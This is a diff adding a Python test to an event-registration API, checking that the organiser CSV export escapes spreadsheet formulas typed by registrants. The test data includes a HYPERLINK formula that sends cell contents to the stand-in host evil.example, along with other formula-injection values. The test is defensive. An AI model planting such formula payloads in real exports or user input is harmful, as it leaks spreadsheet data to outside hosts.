@@ -1,4 +1,6 @@
+import csv
 import datetime as dt
+import io
 import re
 from decimal import Decimal
 
@@ -321,3 +323,28 @@ def test_no_feed_link_for_a_registration_that_is_not_confirmed(api_client, db):
     assert response.status_code == 409
     wrong = api_client.post(f"/api/v1/registrations/{waiting['id']}/calendar-feed/?token=wrong")
     assert wrong.status_code == 404  # ids must not be probed
+
+
+def test_organizer_csv_neutralises_spreadsheet_formulas(api_client, db):
+    """Names, addresses, guests and answers are typed by anyone who registers: none may run as a formula."""
+    event = EventFactory(capacity=10, max_guests=1)
+    QuestionFactory(event=event, key="note", kind="text")
+    registration = RegistrationFactory(
+        event=event,
+        name='=HYPERLINK("http://evil.example/?"&A1,"click")',
+        email="=cmd@example.org",
+        answers={"note": "@SUM(1+1)"},
+        party_size=2,
+        tickets=False,
+    )
+    registration.tickets.create(position=0, name=registration.name)
+    registration.tickets.create(position=1, name="+1-2")
+    api_client.force_authenticate(MembershipFactory(organization=event.organization).user)
+    response = api_client.get(f"/api/v1/organizer/events/{event.slug}/registrations.csv")
+    assert response.status_code == 200
+    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    assert row["name"] == "'" + registration.name
+    assert row["email"] == "'=cmd@example.org"
+    assert row["guests"] == "'+1-2"
+    assert row["answer:note"] == "'@SUM(1+1)"
+    assert "no-store" in response["Cache-Control"]
